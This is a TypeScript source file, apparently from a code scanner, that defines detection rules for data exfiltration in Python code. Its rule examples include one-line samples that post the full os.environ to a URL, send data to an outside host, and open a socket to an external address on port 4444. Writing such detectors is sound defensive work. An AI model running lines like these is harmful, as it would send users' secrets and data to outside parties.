import { carriesSecret, packs, readsSecret } from "../flow.js";
import { bringsData, destinationOf } from "../network.js";
import type { SyntaxNode } from "../node.js";
import { calleePath } from "../read.js";
import { nodeTypes, type SyntaxRule, weights } from "../rule.js";

const family = "data_exfiltration";

/** Calls that send what they are given. */
const senders =
  /^(?:requests\.(?:\w+|[sS]ession\(\)\.\w+)|httpx\.(?:\w+|\w*Client\(\)\.\w+)|aiohttp\.(?:request|ClientSession\(\)\.\w+)|urllib\.request\.(?:urlopen|Request|urlretrieve)|urllib2\.(?:urlopen|Request)|urllib3\.PoolManager\(\)\.(?:request|urlopen)|http\.client\.\w+\(\)\.request|socket\.socket\(\)\.(?:connect|connect_ex|send|sendall|sendto)|socket\.(?:create_connection|gethostbyname|getaddrinfo)|socket\.create_connection\(\)\.(?:send|sendall)|smtplib\.SMTP\w*\(\)\.(?:sendmail|send_message)|ftplib\.FTP\w*(?:\(\)\.(?:storbinary|storlines))?|telnetlib\.Telnet(?:\(\)\.write)?|websockets?\.(?:connect|create_connection)(?:\(\)\.send)?|websocket\.WebSocket\(\)\.(?:connect|send)|paramiko\.\w+(?:\(\)\.\w+)*\.(?:put|connect)|boto3\.\w+\(\)\.(?:put_object|upload_file|upload_fileobj|send_message)|webbrowser\.open|dns\.resolver\.\w+|xmlrpc\.client\.ServerProxy)$/;

/** They have no purpose but to talk to someone else directly. */
const channels =
  /^(?:socket\.socket\(\)\.(?:connect|connect_ex|sendto)|socket\.create_connection|ftplib\.FTP\w*|telnetlib\.Telnet|websockets?\.(?:connect|create_connection)|websocket\.WebSocket\(\)\.connect|xmlrpc\.client\.ServerProxy)$/;
/** A name to look up can be a message itself. */
const lookups = /^(?:socket\.(?:gethostbyname|getaddrinfo)|dns\.resolver\.\w+)$/;

/** The host is made of parts: `secret + ".elsewhere.example"`. */
const isComposed = (node: unknown): boolean =>
  /^(?:BinaryExpression|TextParts)$/.test((node as SyntaxNode | undefined)?.type ?? "");

/** Rules of the family for Python, over the tree that tree.ts makes. */
export const pythonExfiltration: readonly SyntaxRule[] = [
  {
    name: "python-secret-sent",
    family,
    weight: weights.severe,
    catches: "sends what it read where secrets are kept",
    triggers: "import os, requests; requests.post(url, json=dict(os.environ))",
    ignores: "import os, requests; requests.get(url, headers={'Authorization': os.environ['API_TOKEN']})",
    on: nodeTypes("CallExpression"),
    matches: (node, _index, syntax) =>
      senders.test(calleePath(node, syntax)) &&
      (node.arguments as unknown[]).some((argument) => carriesSecret(argument, syntax)),
  },
  {
    name: "python-external-post",
    family,
    weight: weights.serious,
    catches: "sends data to a fixed address elsewhere",
    triggers: "import httpx; httpx.post('https://elsewhere.example/', json=data)",
    ignores: "import httpx; httpx.post('http://localhost:8000/', json=data)",
    on: nodeTypes("CallExpression"),
    matches: (node, _index, syntax) =>
      senders.test(calleePath(node, syntax)) &&
      destinationOf(node, syntax) === "elsewhere" &&
      (bringsData(node, syntax) || packs((node.arguments as unknown[])[0], syntax)),
  },
  {
    name: "python-direct-channel",
    family,
    weight: weights.serious,
    catches: "opens a channel to somewhere else",
    triggers: "import socket; s = socket.socket(); s.connect(('203.0.113.9', 4444))",
    ignores: "import socket; s = socket.socket(); s.connect(('127.0.0.1', 8080))",
    on: nodeTypes("CallExpression"),
    matches: (node, _index, syntax) => {
      const path = calleePath(node, syntax);
      if (lookups.test(path)) return isComposed((node.arguments as unknown[])[0]);
      const to = path.endsWith("sendto") ? { ...node, arguments: (node.arguments as unknown[]).slice(1) } : node;
      return channels.test(path) && destinationOf(to, syntax) === "elsewhere";
    },
  },
  {
    name: "python-network-call",
    family,
    weight: weights.notable,
    catches: "talks to the network",
    triggers: "import requests; requests.get('https://elsewhere.example/' + name)",
    ignores: "requests = load(); requests.get('name')",
    on: nodeTypes("CallExpression"),
    matches: (node, _index, syntax) => senders.test(calleePath(node, syntax)) && destinationOf(node, syntax) !== "here",
  },
  {
    name: "python-secret-read",
    family,
    weight: weights.notable,
    catches: "reads where secrets are kept",
    triggers: "import os; send(dict(os.environ))",
    ignores: "import os; send(os.environ['PORT'])",
    on: nodeTypes("Identifier", "MemberExpression", "Literal", "CallExpression"),
    matches: (_node, index, syntax) => readsSecret(index, syntax),
  },
];
